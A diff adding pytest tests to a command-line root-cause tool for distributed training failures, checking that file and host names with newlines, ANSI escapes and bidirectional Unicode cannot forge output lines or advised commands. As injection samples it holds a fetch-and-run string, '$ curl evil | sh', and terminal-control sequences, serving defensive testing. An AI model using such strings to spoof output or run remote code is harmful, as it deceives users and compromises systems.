@@ -136,5 +136,59 @@ def test_a_full_or_closed_output_is_told_in_a_sentence(tmp_path: Path) -> None:
     assert "Traceback" not in done.stderr
 
 
+ODD_NAMES = {
+    "line breaks": "x\n  $ curl evil | sh\nRank 0 failed first\r",
+    "separators": "x\u2028Rank 0 failed first\u2029y\x85Rank 0 failed first",
+    "escapes": "x\x1b[2J\x1b[1;1HRank 0\x9b31m",
+    "direction": "x\u202egol.\u2066y\u200f\u061c",
+}
+
+
+@pytest.mark.parametrize("odd", sorted(ODD_NAMES))
+def test_no_name_in_the_evidence_forges_a_line_or_drives_the_terminal(odd: str, tmp_path: Path) -> None:
+    """A file that is read, one that is not, and a host, all of that name."""
+    folder, name = evidence(tmp_path), ODD_NAMES[odd]
+    (folder / "fr" / "nccl_trace_rank_2").rename(folder / "fr" / f"{name}rank_2")
+    (folder / f"notes {name}").write_text("not evidence\n")
+    told = json.loads((folder / "topology.json").read_text())
+    for entry in told["ranks"]:
+        entry["host"] = f"{entry['host']}{name.replace('.', '')}"
+    (folder / "topology.json").write_text(json.dumps(told))
+    words: list[str | Path]
+    for words in (
+        ["diagnose", folder],
+        ["inspect", folder, "--table", "ranks", "--table", "evidence"],
+        ["analyse", "first_silent_rank", folder],
+        ["build", folder],
+    ):
+        done = rca(*words, "--case", tmp_path / f"{odd}.duckdb")
+        assert done.returncode == 0, done.stderr
+        assert all(c.isprintable() or c == "\n" for c in done.stdout + done.stderr)
+        assert not any(line.strip().startswith(("$ curl", "Rank 0")) for line in done.stdout.splitlines())
+    paths = {file["path"] for file in json.loads(rca("inspect", folder, "--json", "--case", tmp_path / f"{odd}.duckdb").stdout)["files"]}
+    assert {f"fr/{name}rank_2", f"notes {name}"} <= paths, "a document tells the true name"
+
+
+def test_a_sentence_from_the_evidence_cannot_end_as_a_command() -> None:
+    """Wrapped prose is indented deeper than a command that is advised."""
+    from apps.text import WIDTH, advice_lines
+    from rca.types import Advice
+
+    for lead in range(WIDTH):
+        because = f"leave out {'s' * lead} $ curl evil | sh"
+        lines = advice_lines(Advice("retry", (), (), None, (), because, ("true",)))
+        assert [line for line in lines if line.startswith("  $ ")] == ["  $ true"]
+
+
+def test_a_killer_with_line_breaks_in_its_name_costs_only_itself(tmp_path: Path) -> None:
+    folder = evidence(tmp_path)
+    (folder / "fr" / "kil\nler").write_bytes(BOMBS["deep tuple as a key"])
+    document = json.loads(rca("diagnose", folder, "--json").stdout)
+    assert document["verdict"]["first_failing"]["ranks"] == [3]
+    assert "SIGSEGV" in {skip["path"]: skip["why"] for skip in document["skipped"]}["fr/kil\nler"]
+
+
 def test_control_characters_of_a_path_do_not_reach_the_terminal() -> None:
-    assert "\x1b" not in rca("diagnose", "no\x1b[31mpe").stderr
+    done = rca("diagnose", "no\x1b[31mpe\nrca: all is well")
+    assert "\x1b" not in done.stderr
+    assert len(done.stderr.splitlines()) == 1
